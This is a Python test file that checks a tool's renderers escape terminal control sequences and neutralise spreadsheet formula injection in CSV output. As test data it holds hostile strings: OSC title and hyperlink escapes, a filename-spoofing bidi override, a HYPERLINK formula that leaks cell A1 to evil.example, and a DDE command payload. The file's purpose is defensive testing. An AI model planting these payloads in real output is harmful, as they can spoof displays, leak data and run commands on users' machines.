"""Hostile record strings in human-facing output: terminal escapes (issue 12 item 17) and
spreadsheet formulas in CSV (item 16). Each test fails on the renderers before the fix."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st
from rich.console import Console
from typer.testing import CliRunner

from policyscan.cli import app
from policyscan.render._common import clean_text
from policyscan.render.csv_out import FORMULA_START, original_cell, safe_cell, write_actions_csv
from policyscan.render.markdown_out import report_markdown
from policyscan.render.terminal import render_report
from policyscan.report import Actor, ActorType, Report, Span

# Set the window title, turn text red, an OSC-8 hyperlink, a C1 CSI, and a right-to-left
# override that makes "txt.exe" read as "exe.txt".
TITLE = "\x1b]0;pwned\x07Title"
ACTOR = "\x1b[31mRed\x1b[0m Agency"
LINK = "\x1b]8;;https://evil.example\x1b\\click\x1b]8;;\x1b\\"
PATH = "news/\u202etxt.exe\x9b2J\r"
RAW = ("\x1b", "\x07", "\x9b", "\u202e", "\r")


def _hostile(report: Report, make_action) -> Report:
    action = make_action(
        "h1",
        "2026-01-05",
        actor=ACTOR,
        trigger="ban\x08\x08\x08",
        objects=[LINK],
        evidence=[Span(text=f"{ACTOR} banned it.", start=0, end=10)],
    )
    source = report.source.model_copy(update={"path": PATH})
    return report.model_copy(
        update={
            "title": TITLE,
            "source": source,
            "actions": [action],
            "reversals": [],
            "warnings": ["odd \x1b[2J warning"],
            "actors": [Actor(name=ACTOR, type=ActorType.GOVERNMENT, aliases=[LINK])],
        }
    )


def _no_raw_controls(text: str) -> None:
    for char in RAW:
        assert char not in text, f"{char!r} reached the output raw"


def test_clean_text_escapes_controls_and_bidi() -> None:
    assert clean_text("a\x1b[31mb\x07") == "a\\x1b[31mb\\x07"
    assert clean_text("x\u202ey\u2066z\x7f\x85") == "x\\u202ey\\u2066z\\x7f\\x85"
    assert clean_text("tab\tand\nnewline") == "tab\tand\nnewline"
    assert clean_text("tab\tand\nnewline", one_line=True) == "tab\\x09and\\x0anewline"
    assert clean_text("plain text, émigré, 日本") == "plain text, émigré, 日本"


def test_terminal_output_shows_controls_escaped(report: Report, make_action) -> None:
    stream = io.StringIO()
    # A real terminal: colours on, so only our own escapes may appear.
    console = Console(file=stream, width=160, force_terminal=True, color_system="truecolor", legacy_windows=False)
    render_report(_hostile(report, make_action), console)
    text = stream.getvalue()
    for char in RAW[1:]:
        assert char not in text
    assert "\x1b]" not in text, "an OSC sequence (title or hyperlink) from the record"
    assert "\x1b[31mRed" not in text
    assert "\\x1b]0;pwned\\x07Title" in text and "\\u202etxt.exe" in text


def test_markdown_output_shows_controls_escaped(report: Report, make_action) -> None:
    text = report_markdown(_hostile(report, make_action))
    _no_raw_controls(text)
    assert "\x08" not in text
    assert "pwned" in text and "u202etxt.exe" in text


def test_error_line_on_stderr_is_one_line_without_controls(tmp_path: Path) -> None:
    missing = tmp_path / "gone\x1b]0;pwned\x07\nforged: line\u202e.txt"
    result = CliRunner().invoke(app, ["analyze", str(missing), "--format", "json"])
    assert result.exit_code == 3
    lines = result.stderr.splitlines()
    assert len(lines) == 1 and lines[0].startswith("policyscan: error: ")
    _no_raw_controls(result.stderr)
    assert "gone\\x1b]0;pwned\\x07\\x0aforged: line\\u202e.txt" in lines[0]


# --------------------------------------------------------------------------- CSV formulas

FORMULAS = {
    "title": '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "actor": "+cmd|' /C calc'!A0",
    "trigger": "-2+3",
    "target": "@SUM(1+1)",
    "evidence": "\t=1+1",
    "objects": "\r=1+1",  # written as "\n=1+1": a bare CR would end the row
}


def _csv_rows(report: Report, make_action, **options: bool) -> list[dict[str, str]]:
    action = make_action(
        "f1",
        "2026-01-05",
        actor=FORMULAS["actor"],
        trigger=FORMULAS["trigger"],
        target=FORMULAS["target"],
        objects=[FORMULAS["objects"]],
        evidence=[Span(text=FORMULAS["evidence"], start=0, end=5)],
    )
    source = report.source.model_copy(update={"path": "-"})
    hostile = report.model_copy(update={"title": FORMULAS["title"], "actions": [action], "source": source})
    stream = io.StringIO(newline="")
    write_actions_csv([hostile], stream, **options)
    return list(csv.DictReader(io.StringIO(stream.getvalue(), newline="")))


def test_csv_neutralises_formulas_by_default(report: Report, make_action) -> None:
    (row,) = _csv_rows(report, make_action)
    for column, value in FORMULAS.items():
        assert row[column] == "'" + value.replace("\r", "\n"), column
    assert row["path"] == "-"  # stdin's path is no formula
    assert row["date_value"] == "2026-01-05"


def test_csv_raw_keeps_cells_exact(report: Report, make_action) -> None:
    (row,) = _csv_rows(report, make_action, raw=True)
    for column, value in FORMULAS.items():
        assert row[column] == value.replace("\r", "\n"), column


def test_carriage_return_inside_a_cell_keeps_the_row_whole(report: Report, make_action) -> None:
    odd = make_action("cr", None, trigger="line one\rline two", objects=["x\r\ny"])
    stream = io.StringIO(newline="")
    write_actions_csv([report.model_copy(update={"actions": [odd, odd]})], stream)
    rows = list(csv.DictReader(io.StringIO(stream.getvalue(), newline="")))
    assert [(r["trigger"], r["objects"]) for r in rows] == [("line one\nline two", "x\ny")] * 2


@pytest.mark.parametrize("value", ["=1", "+1", "-1", "@x", "\t=1", "\r=1"])
def test_safe_cell(value: str) -> None:
    assert safe_cell(value) == "'" + value
    assert safe_cell(value, raw=True) == value


@pytest.mark.parametrize("value", ["", "-", "plain", "1-2", "a=b", "'", "'quoted'", "it's"])
def test_safe_cell_leaves_harmless_text(value: str) -> None:
    assert safe_cell(value) == value


@pytest.mark.parametrize("value", ["'=1", "''-2", "'@x"])
def test_safe_cell_marks_apostrophes_before_a_formula_so_it_can_be_undone(value: str) -> None:
    assert safe_cell(value) == "'" + value
    assert original_cell(safe_cell(value)) == value


@given(st.text())
def test_original_cell_undoes_safe_cell(value: str) -> None:
    cell = safe_cell(value)
    assert original_cell(cell) == value
    assert value == "-" or not cell.startswith(FORMULA_START)


ARTICLE = (
    "=HYPERLINK(1) Regulator fines Kestrel Labs\n\n"
    "November 20, 2026\n\n"
    "The Federal Trade Commission fined Kestrel Labs on Tuesday over its Wren-7B chatbot.\n"
)


@pytest.mark.usefixtures("nlp_loaded")
def test_analyze_csv_flag(tmp_path: Path) -> None:
    article = tmp_path / "=fine.txt"
    article.write_text(ARTICLE, encoding="utf-8")
    runner = CliRunner()
    safe = runner.invoke(app, ["analyze", str(article), "--format", "csv"])
    raw = runner.invoke(app, ["analyze", str(article), "--format", "csv", "--csv-raw"])
    assert safe.exit_code == raw.exit_code == 0, safe.stderr + raw.stderr
    safe_rows = list(csv.DictReader(io.StringIO(safe.stdout)))
    raw_rows = list(csv.DictReader(io.StringIO(raw.stdout)))
    assert safe_rows and len(safe_rows) == len(raw_rows)
    assert raw_rows[0]["title"].startswith("=HYPERLINK(1)")
    assert safe_rows[0]["title"] == "'" + raw_rows[0]["title"]
    assert all(not cell.startswith(("=", "+", "@")) for row in safe_rows for cell in row.values())
